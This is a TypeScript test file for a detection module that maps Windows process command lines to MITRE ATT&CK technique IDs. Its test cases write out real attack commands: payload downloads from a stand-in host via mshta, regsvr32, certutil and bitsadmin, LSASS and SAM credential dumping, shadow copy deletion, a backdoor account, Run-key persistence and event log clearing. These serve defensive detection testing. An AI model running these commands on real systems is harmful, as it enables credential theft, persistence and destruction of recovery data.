import { describe, expect, it } from 'vitest';
import { techniquesForEvent } from './attack_mapping';
import { processEvent } from './testing/events';

function ids(parentName: string, name: string, cmd: string): string[] {
  return techniquesForEvent(processEvent({ entity: 'x', parentName, name, cmd }))
    .map((t) => t.id)
    .sort();
}

describe('ATT&CK mapping', () => {
  it.each([
    [
      'cmd.exe',
      'powershell.exe',
      'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
      ['T1027', 'T1059.001'],
    ],
    ['explorer.exe', 'mshta.exe', 'mshta.exe http://x/a.hta', ['T1218.005']],
    ['cmd.exe', 'regsvr32.exe', 'regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll', ['T1218.010']],
    [
      'powershell.exe',
      'rundll32.exe',
      'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\l.dmp full',
      ['T1003.001'],
    ],
    ['cmd.exe', 'certutil.exe', 'certutil -urlcache -split -f http://x/a.exe a.exe', ['T1105']],
    [
      'cmd.exe',
      'bitsadmin.exe',
      'bitsadmin /transfer j http://x/a.exe C:\\a.exe',
      ['T1105', 'T1197'],
    ],
    ['cmd.exe', 'wmic.exe', 'wmic /node:10.0.0.5 process call create "cmd /c whoami"', ['T1047']],
    ['cmd.exe', 'schtasks.exe', 'schtasks /create /tn u /tr C:\\a.exe /sc onlogon', ['T1053.005']],
    ['services.exe', 'psexesvc.exe', 'C:\\Windows\\PSEXESVC.exe', ['T1021.002', 'T1569.002']],
    ['cmd.exe', 'vssadmin.exe', 'vssadmin delete shadows /all /quiet', ['T1490']],
    ['powershell.exe', 'net.exe', 'net user /domain', ['T1087']],
    ['powershell.exe', 'net.exe', 'net localgroup administrators', ['T1069', 'T1087']],
    ['powershell.exe', 'whoami.exe', 'whoami /all', ['T1033']],
    ['powershell.exe', 'nltest.exe', 'nltest /dclist:corp.local', ['T1482']],
    [
      'cmd.exe',
      'reg.exe',
      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d C:\\a.exe',
      ['T1112', 'T1547.001'],
    ],
    ['winword.exe', 'cmd.exe', 'cmd.exe /c echo hi', ['T1204.002', 'T1566.001']],
    ['fodhelper.exe', 'cmd.exe', 'cmd.exe', ['T1548.002']],
    ['cmd.exe', 'net.exe', 'net user backdoor P@ss /add', ['T1136.001']],
    ['cmd.exe', 'reg.exe', 'reg save hklm\\sam C:\\sam.hiv', ['T1003.002']],
    ['cmd.exe', 'wevtutil.exe', 'wevtutil cl Security', ['T1070.001']],
  ])('%s → %s %s', (parent, child, cmd, expected) => {
    expect(ids(parent, child, cmd)).toEqual(expected);
  });

  it('suggests nothing for routine processes', () => {
    expect(ids('services.exe', 'svchost.exe', 'svchost.exe -k netsvcs')).toEqual([]);
    expect(ids('explorer.exe', 'chrome.exe', 'chrome.exe')).toEqual([]);
    expect(ids('explorer.exe', 'cmd.exe', 'cmd.exe')).toEqual([]);
  });

  it('gives a reason per technique', () => {
    const t = techniquesForEvent(
      processEvent({ entity: 'x', parentName: 'cmd.exe', name: 'whoami.exe', cmd: 'whoami' }),
    );
    expect(t).toEqual([{ id: 'T1033', name: 'System Owner/User Discovery', reason: 'whoami' }]);
  });

  it('stays fast on long command lines', () => {
    const cmd = `powershell ${'-e '.repeat(5000)}${'start '.repeat(5000)}eventlog`;
    const t0 = performance.now();
    techniquesForEvent(
      processEvent({ entity: 'x', parentName: 'cmd.exe', name: 'powershell.exe', cmd }),
    );
    expect(performance.now() - t0).toBeLessThan(200);
  });
});
